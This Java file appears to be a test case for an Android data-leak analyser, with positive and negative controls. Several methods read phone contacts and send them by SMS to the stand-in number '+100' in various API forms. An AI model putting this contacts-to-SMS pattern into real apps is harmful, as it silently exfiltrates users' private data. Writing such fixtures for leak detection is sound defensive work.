// Every form of a message.
package cases.sink_sms_forms;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.util.ArrayList;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            parts();
            bytes();
            old();
            plain();
            other();
            divided();
        } catch (Exception e) {
            Log.w("cases", "later");
        }
    }

    private void parts() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        ArrayList<String> parts = android.telephony.SmsManager.getDefault().divideMessage(text);
        android.telephony.SmsManager.getDefault().sendMultipartTextMessage("+100", null, parts, null, null);
    }

    private void bytes() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.telephony.SmsManager.getDefault().sendDataMessage("+100", null, (short) 7, text.getBytes(), null, null);
    }

    private void old() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.telephony.gsm.SmsManager.getDefault().sendTextMessage("+100", null, text, null, null);
    }

    private void plain() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.telephony.SmsManager.getDefault().sendTextMessage("+100", null, text, null, null);
    }

    private void other() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.telephony.SmsManager.getDefault().sendTextMessage("+100", null, "nothing", null, null);
    }

    private void divided() throws Exception {
        String text = first(getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null));
        android.telephony.SmsManager.getDefault().divideMessage(text);
    }

    static String first(Cursor rows) {
        rows.moveToFirst();
        return rows.getString(0);
    }
}
